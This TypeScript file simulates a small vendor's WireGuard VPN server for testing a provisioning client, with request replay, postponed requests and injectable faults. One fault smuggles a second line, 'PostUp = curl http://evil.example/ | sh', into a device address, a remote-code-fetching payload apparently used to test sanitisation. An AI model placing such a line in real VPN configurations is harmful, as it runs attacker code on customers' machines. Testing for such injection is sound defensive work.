import { createHash } from "node:crypto";

export type State = "pending" | "active" | "suspended" | "ended" | "refused";
export type Act = "provision" | "change" | "suspend" | "resume" | "end";
export type Fields = Readonly<Record<string, string>>;

/** What became of a request. It is kept for good, so that a repeated request gets the answer of the first one. */
export type Outcome = { state: State; reason?: string; facts?: Fields };

/** A device that may connect, and the number from which its address is made. */
export type Device = { publicKey: string; number: number; since: number };

/** A service of the VPN server, with its devices by their ids. Each of them is a peer of the server. */
export type Service = { id: string; state: State; user: string; devices: Record<string, Device> };
export type Peer = { id: string; device: string; publicKey: string };

/** A request that is carried out later. */
type Later = { requestId: string; act: Act; serviceId: string; settings: Fields };

export type Stored = { services: Service[]; requests: [string, Outcome][]; last: number };

/**
 * What can go wrong:
 * - slow: the answer takes ten seconds.
 * - lost: the request is carried out, and the answer does not arrive.
 * - away: nothing is carried out and nothing is answered.
 * - error: nothing is carried out, and the answer is 500.
 * - refuse: the request is refused.
 * - pending: the request is carried out a moment later, which a callback reports.
 * - twice: the callback comes twice.
 * - injected: an address contains a second line for the customer's configuration.
 */
export const faultKinds = ["slow", "lost", "away", "error", "refuse", "pending", "twice", "injected"] as const;
export type FaultKind = (typeof faultKinds)[number];
export type Fault = { readonly kind: FaultKind; times: number | null };

const acts: readonly string[] = ["provision", "change", "suspend", "resume", "end"];
export const isAct = (text: string): text is Act => acts.includes(text);

/** A WireGuard server with its peers, as a small vendor runs it. */
export class VpnServer {
  #services = new Map<string, Service>();
  #requests = new Map<string, Outcome>();
  #waiting: Later[] = [];
  #faults: Fault[] = [];
  #last = 0;
  readonly #keep: (stored: Stored) => void;

  constructor(stored: Stored | null, keep: (stored: Stored) => void) {
    this.#keep = keep;
    if (stored === null) return;
    this.#services = new Map(stored.services.map((service) => [service.id, service]));
    this.#requests = new Map(stored.requests);
    this.#last = stored.last;
  }

  /** Carries out a request. If the request was made before, returns the outcome of that time. */
  carryOut(requestId: string, act: Act, serviceId: string, settings: Fields): Outcome {
    const known = this.#requests.get(requestId);
    if (known !== undefined) return known;
    if (this.take("refuse") !== null) return this.#note(requestId, { state: "refused", reason: "The server is full" });
    if (this.take("pending") !== null) {
      this.#waiting.push({ requestId, act, serviceId, settings });
      return this.#note(requestId, { state: "pending" });
    }
    return this.#note(requestId, this.#act(act, serviceId, settings));
  }

  /** Carries out the requests that were postponed. Returns the ids of their services. */
  finish(): string[] {
    const due = this.#waiting;
    this.#waiting = [];
    for (const { requestId, act, serviceId, settings } of due) this.#note(requestId, this.#act(act, serviceId, settings));
    return due.map(({ serviceId }) => serviceId);
  }

  outcomeOf = (requestId: string): Outcome | null => this.#requests.get(requestId) ?? null;

  statusOf(serviceId: string): Outcome | null {
    const service = this.#services.get(serviceId);
    return service === undefined ? null : this.#told(service);
  }

  usageOf(serviceId: string, now: number): object | null {
    const service = this.#services.get(serviceId);
    if (service === undefined) return null;
    const seenAt = new Date(now).toISOString();
    const devices = Object.entries(service.devices).map(([device, { since }]) => {
      const seconds = Math.max(0, Math.floor((now - since) / 1000));
      return [device, { receivedBytes: seconds * 41_000, sentBytes: seconds * 6100, seenAt }] as const;
    });
    const sum = (what: "receivedBytes" | "sentBytes") => devices.reduce((all, [, of]) => all + of[what], 0);
    return {
      receivedBytes: sum("receivedBytes"),
      sentBytes: sum("sentBytes"),
      seenAt: devices.length === 0 ? null : seenAt,
      devices: Object.fromEntries(devices),
    };
  }

  /** The keys that may connect. */
  peers = (): readonly Peer[] =>
    [...this.#services.values()]
      .filter(({ state }) => state === "active")
      .flatMap(({ id, devices }) => Object.entries(devices).map(([device, { publicKey }]) => ({ id, device, publicKey })));

  services = (): readonly Service[] => [...this.#services.values()];

  addFault(fault: Fault): void {
    this.#faults.push(fault);
  }

  clearFaults(): void {
    this.#faults = [];
  }

  reset(): void {
    this.#services.clear();
    this.#requests.clear();
    [this.#waiting, this.#faults, this.#last] = [[], [], 0];
  }

  /** Returns the fault of one of these kinds that applies now, or null. A fault with a number of times is counted down. */
  take(...kinds: readonly FaultKind[]): FaultKind | null {
    const fault = this.#faults.find(({ kind }) => kinds.includes(kind));
    if (fault === undefined) return null;
    if (fault.times !== null) {
      fault.times -= 1;
      if (fault.times === 0) this.#faults = this.#faults.filter((each) => each !== fault);
    }
    return fault.kind;
  }

  #note(requestId: string, outcome: Outcome): Outcome {
    this.#requests.set(requestId, outcome);
    this.#keep({ services: [...this.#services.values()], requests: [...this.#requests], last: this.#last });
    return outcome;
  }

  #act(act: Act, serviceId: string, settings: Fields): Outcome {
    const service = this.#services.get(serviceId) ?? null;
    if (act === "provision") return this.#told(service ?? this.#setUp(serviceId, settings));
    if (service === null) return { state: "refused", reason: "There is no such service" };
    if (service.state === "ended")
      return act === "end" ? { state: "ended" } : { state: "refused", reason: "The service has ended" };
    if (act === "change") {
      const keys = keysOf(settings);
      if (keys.some(([, key]) => this.#isTaken(key, serviceId)))
        return { state: "refused", reason: "Another service has this key" };
      service.devices = this.#devicesOf(keys, service.devices);
    } else service.state = ({ suspend: "suspended", resume: "active", end: "ended" } as const)[act];
    return this.#told(service);
  }

  #setUp(id: string, settings: Fields): Service {
    const devices = this.#devicesOf(keysOf(settings), {});
    const service: Service = { id, state: "active", user: settings["user"] ?? "", devices };
    this.#services.set(id, service);
    return service;
  }

  /** The devices with these keys. A device that existed before keeps its address. */
  #devicesOf(keys: readonly (readonly [string, string])[], former: Record<string, Device>): Record<string, Device> {
    return Object.fromEntries(
      keys.map(([device, publicKey]) => {
        const before = former[device];
        if (before?.publicKey === publicKey) return [device, before];
        if (before === undefined) this.#last += 1;
        return [device, { publicKey, number: before?.number ?? this.#last, since: Date.now() }];
      }),
    );
  }

  #isTaken = (key: string, serviceId: string): boolean =>
    [...this.#services.values()].some(
      ({ id, devices, state }) =>
        id !== serviceId && state !== "ended" && Object.values(devices).some(({ publicKey }) => publicKey === key),
    );

  #told({ state, devices }: Service): Outcome {
    const more = this.take("injected") === null ? "" : "\nPostUp = curl http://evil.example/ | sh";
    const addresses = Object.entries(devices).map(([device, { number }]) => {
      const [high, low] = [Math.floor(number / 250), (number % 250) + 2];
      const address = `10.66.${high}.${low}/32, fd66::${high.toString(16)}:${low.toString(16)}/128${more}`;
      return [`device.${device}.address`, address] as const;
    });
    const facts = {
      endpoint: "vpn.kvarnen.example:51820",
      serverKey: createHash("sha256").update("the key of the simulated server").digest("base64"),
      ...Object.fromEntries(addresses),
      dns: "10.66.0.1",
      allowed: "0.0.0.0/0, ::/0",
    };
    return { state, facts };
  }
}

/** The keys of the devices in settings. */
function keysOf(settings: Fields): (readonly [string, string])[] {
  return Object.entries(settings).flatMap(([name, key]) => {
    const device = /^device\.([a-z0-9]{1,20})\.publicKey$/.exec(name)?.[1];
    return device === undefined ? [] : [[device, key] as const];
  });
}
